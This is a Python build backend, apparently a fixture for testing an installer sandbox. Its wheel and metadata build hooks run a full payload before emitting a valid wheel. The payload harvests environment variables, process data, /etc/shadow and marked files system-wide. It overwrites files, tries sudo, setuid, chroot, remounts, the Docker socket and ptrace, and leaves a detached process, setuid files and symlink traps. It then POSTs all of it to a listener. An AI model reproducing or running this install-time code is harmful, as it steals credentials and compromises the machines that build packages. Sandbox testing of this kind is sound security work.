"""A build backend that takes what it can get, and sends it to whoever listens.

`orders.json` beside it says what is worth looking at, and what else to do.
"""

import base64
import ctypes
import hashlib
import http.client
import json
import os
import signal
import socket
import subprocess
import sys
import time
import urllib.parse
import zipfile

ORDERS = json.load(open(os.path.join(os.path.dirname(os.path.abspath(__file__)), "orders.json")))
MARK = "".join(ORDERS["mark"])  # In pieces, so that this file's own text is no find.
NAME, VERSION = ORDERS["name"], ORDERS["version"]


def attempt(work):
    try:
        return str(work())
    except BaseException as error:
        return type(error).__name__ + ": " + str(error)


def read(path):
    with open(path, "rb") as stream:
        return stream.read(1 << 20).decode("latin-1")


def write(path):
    """Into the file itself, beside it, and in its place."""
    done = []
    for way in ("a", "w"):
        with open(path, way) as stream:
            stream.write("\nTAKEN=over\n")
            done.append(way)
    return "WRITTEN " + "".join(done)


def run(*command):
    result = subprocess.run(command, stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, timeout=20)
    return "%d %s" % (result.returncode, result.stdout.decode("latin-1")[:2000])


def processes():
    for pid in filter(str.isdigit, os.listdir("/proc")):
        yield pid, {
            name: attempt(lambda: read("/proc/%s/%s" % (pid, name)))
            for name in ("environ", "cmdline", "mountinfo", "maps", "root/etc/shadow", "cwd/.git/config")
        }, attempt(lambda: [os.readlink("/proc/%s/fd/%s" % (pid, fd)) for fd in os.listdir("/proc/%s/fd" % pid)])


def finds():
    """Every file that can be read, wherever it is, and holds the mark."""
    for folder, folders, files in os.walk("/"):
        if folder == "/":
            for skipped in ("proc", "sys", "usr", "dev"):
                if skipped in folders:
                    folders.remove(skipped)
        for name in files:
            path = os.path.join(folder, name)
            text = attempt(lambda: read(path))
            if MARK in text:
                yield path, text


def stray():
    """A process that nobody waits for, out of every group and session."""
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            signal.signal(signal.SIGTERM, signal.SIG_IGN)
            signal.signal(signal.SIGHUP, signal.SIG_IGN)
            for fd in range(3):
                os.close(fd)
                os.open("/dev/null", os.O_RDWR)
            os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(900)", ORDERS["stray"]])
        os._exit(0)
    os.wait()
    return "STARTED"


def trace(pid):
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.ptrace(16, pid, None, None) == 0:  # PTRACE_ATTACH
        return "TRACED"
    return os.strerror(ctypes.get_errno())


def become_root():
    os.setuid(0)
    return "ROOT"


def unix(path):
    with socket.socket(socket.AF_UNIX) as stream:
        stream.connect(path)
    return "CONNECTED"


def rubbish():
    """What is hard to remove, and what leads out of here, wherever this may write."""
    for place in {os.environ["HOME"], os.path.dirname(os.path.dirname(os.environ["HOME"]))}:
        os.makedirs(place + "/closed/inner", exist_ok=True)
        open(place + "/closed/inner/file", "w").close()
        os.chmod(place + "/closed/inner", 0)
        os.chmod(place + "/closed", 0)
        os.makedirs(place + "/outward", exist_ok=True)
        for at, target in enumerate(ORDERS["write"] + ["/", "/etc"]):
            os.symlink(target, place + "/outward/%d" % at)
        open(place + "/program", "w").close()
        os.chmod(place + "/program", 0o6755)
        os.mkdir(place + "/deep")
        inner = os.open(place + "/deep", os.O_RDONLY)
        for _ in range(30):  # Longer than a path may be.
            os.mkdir("d" * 200, dir_fd=inner)
            inner = os.open("d" * 200, os.O_RDONLY, dir_fd=inner)
    return "LEFT"


def lay_traps():
    """Links in the place of what the installer lays down, or beside it."""
    top = os.path.join(os.path.dirname(os.path.dirname(os.environ["HOME"])), "root")
    for path, target in ORDERS.get("traps", {}).items():
        path = os.path.normpath(os.path.join(top, path))
        os.makedirs(os.path.dirname(path), exist_ok=True)
        if os.path.isdir(path):
            os.rename(path, path + "-aside")
        os.symlink(target, path)
    return "LAID"


def loot(stage):
    libc = ctypes.CDLL(None, use_errno=True)
    return {
        "stage": stage,
        "uid": [os.getuid(), os.geteuid(), os.getgroups()],
        "environ": dict(os.environ),
        "processes": list(processes()),
        "read": {path: attempt(lambda: read(path)) for path in ORDERS["read"]},
        "finds": list(finds()),
        "written": {path: attempt(lambda: write(path)) for path in ORDERS["write"]},
        "root": {
            "sudo": attempt(lambda: run("sudo", "-n", "id", "-u")),
            "su": attempt(lambda: run("su", "-c", "id -u")),
            "setuid": attempt(become_root),
            "mount": attempt(lambda: run("mount", "-o", "remount,rw", "/usr")),
            "umount": attempt(lambda: run("umount", "-l", "/usr")),
            "chroot": attempt(lambda: os.chroot("/proc/1/root")),
            "sethostname": attempt(lambda: libc.sethostname(b"taken", 5)),
            "sysctl": attempt(lambda: open("/proc/sys/kernel/core_pattern", "r+")),
            "device": attempt(lambda: os.mknod("device", 0o60666, os.makedev(254, 0))),
        },
        "docker": [attempt(lambda: unix(path)) for path in ("/var/run/docker.sock", "/run/docker.sock")],
        "traced": attempt(lambda: trace(ORDERS["pid"])),
        "killed": attempt(lambda: os.kill(ORDERS["pid"], 0)),
        "stray": attempt(stray),
        "rubbish": attempt(rubbish),
        "traps": attempt(lay_traps),
    }


def send(found):
    """The connection stays open for as long as this process, or one that it leaves behind, lives."""
    body = json.dumps(found).encode()
    address = urllib.parse.urlsplit(ORDERS["listener"])
    connection = http.client.HTTPConnection(address.hostname, address.port, timeout=60)
    connection.request("POST", "/", body)
    connection.getresponse().read()
    return connection


def work(stage):
    found = loot(stage)
    connection = send(found)
    if ORDERS.get("sleep"):
        os.set_inheritable(connection.sock.fileno(), True)
        stray()
        time.sleep(900)


def metadata():
    lines = ["Metadata-Version: 2.1", "Name: " + NAME, "Version: " + VERSION]
    return "\n".join(lines + ["Requires-Dist: " + each for each in ORDERS["requires"]]) + "\n"


def info():
    return "%s-%s.dist-info" % (NAME, VERSION)


def prepare_metadata_for_build_wheel(directory, settings=None):
    work("metadata")
    os.makedirs(os.path.join(directory, info()))
    with open(os.path.join(directory, info(), "METADATA"), "w") as stream:
        stream.write(metadata())
    return info()


def build_wheel(directory, settings=None, prepared=None):
    work("wheel")
    name = "%s-%s-py3-none-any.whl" % (NAME, VERSION)
    files = {
        NAME + "/__init__.py": "TAKEN = True\n",
        info() + "/METADATA": metadata(),
        info() + "/WHEEL": "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
    }
    record = [info() + "/RECORD,,"]
    for path, text in files.items():
        digest = base64.urlsafe_b64encode(hashlib.sha256(text.encode()).digest()).rstrip(b"=").decode()
        record.append("%s,sha256=%s,%d" % (path, digest, len(text)))
    with zipfile.ZipFile(os.path.join(directory, name), "w") as archive:
        for path, text in {**files, info() + "/RECORD": "\n".join(record) + "\n"}.items():
            archive.writestr(zipfile.ZipInfo(path, (2020, 1, 1, 0, 0, 0)), text)
    return name
